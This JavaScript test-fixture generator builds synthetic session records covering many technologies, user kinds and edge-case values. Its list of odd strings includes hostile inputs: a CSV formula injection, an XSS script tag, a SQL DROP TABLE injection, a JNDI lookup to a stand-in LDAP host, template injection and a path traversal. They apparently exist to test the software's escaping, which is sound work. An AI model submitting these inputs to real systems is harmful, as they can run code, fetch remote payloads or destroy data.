/** What the sessions of edge-cases are combined from; every pair of values occurs. */
export const FACTORS = {
  technology:
    'ssh postgres redshift mysql mongodb snowflake http s3 dynamodb bigquery kubernetes llm multi clickhouse rdp redis grpc mcp web aws gcp'.split(
      ' ',
    ),
  user: ['human', 'machine', 'machine-for-human', 'native', 'none'],
  status: ['active', 'completed', 'idle'],
  connector: [true, false],
  parent: [true, false],
};

const HUMAN = {
  id: 'user_01h00000000000000000000001',
  name: 'Zoë Ångström',
  email: 'zoe.angstrom+edge@tidewater.example',
  type: 'human',
  groups: ['engineering', 'on-call'],
  externalIds: ['147', 'zoe.angstrom+edge@tidewater.example'],
};
const MACHINE = {
  id: 'user_01h00000000000000000000002',
  name: 'edge-runner',
  type: 'machine',
  groups: ['machines'],
};
const formal = (user, endUser) => ({
  type: 'formal',
  username: `idp:formal:${user.type}:${user.email ?? user.name}`,
  formal: { user, endUser },
});
const USERS = {
  human: formal(HUMAN, HUMAN),
  machine: formal(MACHINE, MACHINE),
  'machine-for-human': formal(MACHINE, HUMAN),
  native: { type: 'native', username: 'postgres', native: { username: 'postgres' } },
  none: undefined,
};
const CONNECTOR = { id: 'connector_01h0000000000000000000003', name: 'production-us-east-1' };
const NETWORK = { clientIpAddress: '203.0.113.77', serverIpAddress: '10.20.3.14' };
const TYPES = {
  ssh: 'instance',
  rdp: 'instance',
  kubernetes: 'instance',
  aws: 'aws',
  s3: 'aws',
  dynamodb: 'aws',
};
const resource = (technology) => ({
  type: TYPES[technology] ?? 'datastore',
  id: `resource_01h00000000000000000000${100 + FACTORS.technology.indexOf(technology)}`,
  name: `edge-${technology}`,
  technology,
});
const parentId = (kind) => `session_7edgecaseparent000000000${FACTORS.user.indexOf(kind)}00`;

/** Parents of the pairs: one for each user, open ever since. */
function parents() {
  return FACTORS.user.map((kind, i) => ({
    id: parentId(kind),
    startTime: `now/d-48h+${i}s`,
    sessionStatus: 'active',
    network: NETWORK,
    ...(USERS[kind] && { user: USERS[kind] }),
    resource: resource('kubernetes'),
    connector: CONNECTOR,
  }));
}

function pairs() {
  return FACTORS.technology.flatMap((technology, t) =>
    FACTORS.user.map((kind, k) => {
      const status = FACTORS.status[(t + k) % 3];
      return {
        startTime: `now/d-${47 * 60 - 10 * (t * 5 + k)}m+${k * 137}ms`,
        ...(status === 'completed' && { duration: `${1 + t}.${262 + k}s` }),
        sessionStatus: status,
        network: NETWORK,
        ...(USERS[kind] && { user: USERS[kind] }),
        resource: resource(technology),
        ...((t + (k >> 1)) % 2 === 0 && { connector: CONNECTOR }),
        ...((k + (t >> 1)) % 2 === 0 && { parentSessionId: parentId(kind) }),
      };
    }),
  );
}

const TEXTS = [
  'مستودع البيانات',
  'מסד נתונים',
  'データベース',
  'ฐานข้อมูล',
  'e\u0301te\u0301 nai\u0308ve',
  '𝒜stral 😀 👩‍👩‍👧‍👦',
  'İstanbul ıŞıK ß ſ',
  'rtl \u202Eoverride\u202C end',
  'zero\u200Bwidth\uFEFFmarks',
  'line\u2028and\u2029paragraph',
  'double "quotes"',
  "single 'quotes'",
  'back\\slash \\n \\u0041',
  'new\nline',
  'carriage\r\nreturn and\ttab',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  'comma, semicolon; pipe|',
  '<script>alert("x")</script>',
  '&amp; &lt; %41 %00',
  "Robert'); DROP TABLE sessions;--",
  '$\u007Bjndi:ldap://x.example/a} {{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  ' leading and trailing ',
  '*',
  'AND OR NOT',
  'a:b',
  '../../etc/passwd',
];

const ADDRESSES = [
  '2001:db8::1',
  '2001:0db8:0000:0000:0000:0000:0000:0001',
  '2001:DB8:0:0:8:800:200C:417A',
  '2001:db8:0:0:1::1',
  '::',
  '::1',
  '::ffff:192.0.2.128',
  '64:ff9b::192.0.2.33',
  'fe80::1',
  '0.0.0.0',
  '255.255.255.255',
];

const BASE = {
  duration: '4.262s',
  sessionStatus: 'completed',
  network: NETWORK,
  user: USERS['machine-for-human'],
  resource: resource('postgres'),
  connector: CONNECTOR,
};
const withHuman = (change) => {
  const human = { ...HUMAN, ...change };
  return { user: formal(human, human) };
};

function odd() {
  const groups = Array.from({ length: 200 }, (_, i) => `group-${i}`);
  return [
    ...TEXTS.map((name) => ({
      ...BASE,
      resource: { ...BASE.resource, name },
      ...withHuman({ name, groups: [name] }),
    })),
    ...TEXTS.slice(0, 12).map((username) => ({
      ...BASE,
      user: { type: 'native', username, native: { username } },
    })),
    ...[
      'a+b@tidewater.example',
      "o'neil@tidewater.example",
      '"quoted local"@tidewater.example',
      'ünïcode@tidewater.example',
    ].map((email) => ({ ...BASE, ...withHuman({ email }) })),
    { ...BASE, ...withHuman({ name: 'n'.repeat(10_240) }) },
    ...[[], ['one'], groups].map((list) => ({ ...BASE, ...withHuman({ groups: list, externalIds: list }) })),
    ...ADDRESSES.map((address) => ({
      ...BASE,
      network: { clientIpAddress: address, serverIpAddress: address },
    })),
    ...['0s', '0.001s', '2592000s', '59.999s', '0.100s'].map((duration) => ({ ...BASE, duration })),
    {
      ...BASE,
      sidecar: {
        id: 'sidecar_01h0000000000000000000004',
        name: 'sidecar-postgres-1',
        technology: 'postgres',
      },
    },
  ];
}

/** A full session with one member less each, the same for members of members, and one with nothing at all. */
function absent() {
  const { duration, sessionStatus, ...full } = {
    ...BASE,
    sidecar: { id: 'sidecar_01h0000000000000000000004', name: 'sidecar-postgres-1', technology: 'postgres' },
    parentSessionId: parentId('machine-for-human'),
  };
  return [
    ...pathsOf(full).map((path) => ({ duration, sessionStatus, ...without(full, path) })),
    { duration },
  ];
}

function pathsOf(value, path = []) {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return [];
  return Object.entries(value).flatMap(([name, member]) => [
    [...path, name],
    ...pathsOf(member, [...path, name]),
  ]);
}

function without(value, [first, ...rest]) {
  const { [first]: member, ...others } = value;
  return rest.length === 0 ? others : { ...value, [first]: without(member, rest) };
}

/** Sessions of one millisecond, with ids of every kind; they come in order of their ids. */
function ties() {
  const ids = [
    'a',
    'session_',
    'session_00000000000000000000000000',
    'session_7zzzzzzzzzzzzzzzzzzzzzzzzz',
    'Z',
    '~',
    'é',
    '0',
  ];
  return ids.map((id) => ({ id, startTime: 'now/d-5h', ...BASE }));
}

/** Every session of the scenario `edge-cases`, as a fixture file has them. */
export function edgeSessions() {
  const spread = [...odd(), ...absent()].map((session, i) => ({
    // Every third starts on a whole second; one is a month before the others.
    startTime:
      session.duration === '2592000s'
        ? 'now/d-31d'
        : `now/d-${24 * 60 - 8 * i}m${i % 3 === 0 ? '' : `+${i}ms`}`,
    ...session,
  }));
  return [...parents(), ...pairs(), ...spread, ...ties()];
}
